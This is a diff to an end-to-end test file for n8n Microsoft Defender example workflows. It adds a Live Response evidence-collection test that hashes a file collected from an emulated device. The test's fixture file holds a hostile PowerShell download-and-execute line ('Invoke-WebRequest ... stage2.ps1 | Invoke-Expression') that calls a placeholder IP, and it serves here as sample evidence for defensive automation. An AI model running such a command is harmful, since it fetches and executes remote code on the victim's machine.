@@ -4,9 +4,11 @@
  * asserted from the emulator's request log and the execution data:
  *   1. alert triage (headless `n8n execute`), 2. webhook isolate/release (answered to `curl` on
  *   loopback), 3. new-incident trigger (published, `n8n start`), 4. the AI-agent example is only
- *   imported and its node types checked (it needs a model).
+ *   imported and its node types checked (it needs a model), 5. Live Response evidence collection
+ *   (headless; the file lands in n8n's binary data and the Crypto node hashes it).
  */
 import { spawn } from 'node:child_process';
+import { createHash } from 'node:crypto';
 import { readFileSync, readdirSync } from 'node:fs';
 import { join } from 'node:path';
 
@@ -97,12 +99,13 @@ describe.each(e2eLines())('real n8n line %i: the example workflows', (line) => {
 		await emu?.close();
 	});
 
-	it('has the four examples, all using the example credential id', () => {
+	it('has the five examples, all using the example credential id', () => {
 		expect(examples.map((w) => w.id)).toEqual([
 			'defenderExampleAlertTriage',
 			'defenderExampleWebhookResponse',
 			'defenderExampleIncidentTrigger',
 			'defenderExampleAiAgent',
+			'defenderExampleCollectEvidence',
 		]);
 		for (const wf of examples) {
 			for (const n of wf.nodes as Array<{ type: string; credentials?: Record<string, { id: string }> }>) {
@@ -144,6 +147,30 @@ describe.each(e2eLines())('real n8n line %i: the example workflows', (line) => {
 		expect(calls.filter((e) => e.status >= 400 && !(e.status === 400 && /\/isolate$/.test(e.path)))).toEqual([]);
 		for (const a of alerts) expect(store.machineState(String(a.machineId)).isolated).toBe(true);
 		for (const m of isolations) expect(m.status).toBe('Succeeded');
+	});
+
+	it('5 collect evidence: Live Response collects a file into n8n binary data, the next node reads it (SHA-256), the incident gets a comment', async () => {
+		emu.clearLog();
+		const store = emu.store('A');
+		const content = 'Invoke-WebRequest http://203.0.113.7/stage2.ps1 | Invoke-Expression\n';
+		store.setLiveResponseFile('C:\\Windows\\Temp\\payload.ps1', 0, content);
+		const res = await executeWorkflow(folder, 'defenderExampleCollectEvidence', 300_000);
+		if (!res.ok) throw new Error(`execution failed:\n${res.stdout.slice(-3000)}\n${res.stderr.slice(-2000)}`);
+		const run = res.run as ExecutionRun;
+		const [alert] = nodeOutput(run, 'Get a new high-severity alert');
+		const [file] = nodeOutput(run, 'Collect the file from the device');
+		const [hashed] = nodeOutput(run, 'Fingerprint the stored file');
+		const comments = nodeOutput(run, 'Comment on the incident');
+		expect(file).toEqual(expect.objectContaining({ status: 'Succeeded', machineId: alert.machineId, fileName: 'payload.ps1', path: 'C:\\Windows\\Temp\\payload.ps1' }));
+		// The Crypto node read the binary data through n8n's own helpers.
+		expect(hashed.sha256).toBe(createHash('sha256').update(content).digest('hex'));
+		const binary = (run.data.resultData.runData['Collect the file from the device'][0].data?.main?.[0]?.[0] as { binary?: Record<string, Json> }).binary;
+		expect(binary?.evidence).toEqual(expect.objectContaining({ fileName: 'payload.ps1', mimeType: 'text/plain' }));
+		expect(comments).toHaveLength(1);
+		const calls = apiCalls();
+		expect(calls.filter((e) => e.method === 'POST' && /\/runliveresponse$/.test(e.path))).toHaveLength(1);
+		expect(emu.log.some((e) => e.path.includes('/liveresponse/') && e.status === 200)).toBe(true);
+		expect(calls.filter((e) => e.status >= 400)).toEqual([]);
 	});
 
 	it('2 + 3 published: the webhook answers curl (isolate, then release) and the incident trigger summarises a new incident once', async () => {
